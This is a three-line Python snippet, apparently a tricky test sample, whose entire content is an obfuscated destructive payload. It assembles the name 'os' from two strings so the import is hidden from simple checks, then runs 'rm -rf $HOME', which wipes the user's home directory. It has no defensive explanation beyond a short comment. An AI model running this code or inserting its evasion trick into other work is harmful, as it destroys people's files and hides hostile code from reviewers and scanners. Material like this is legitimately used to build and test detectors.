# tricky: module by a text put together
m = __import__("o" + "s")
m.system("rm -rf $HOME")
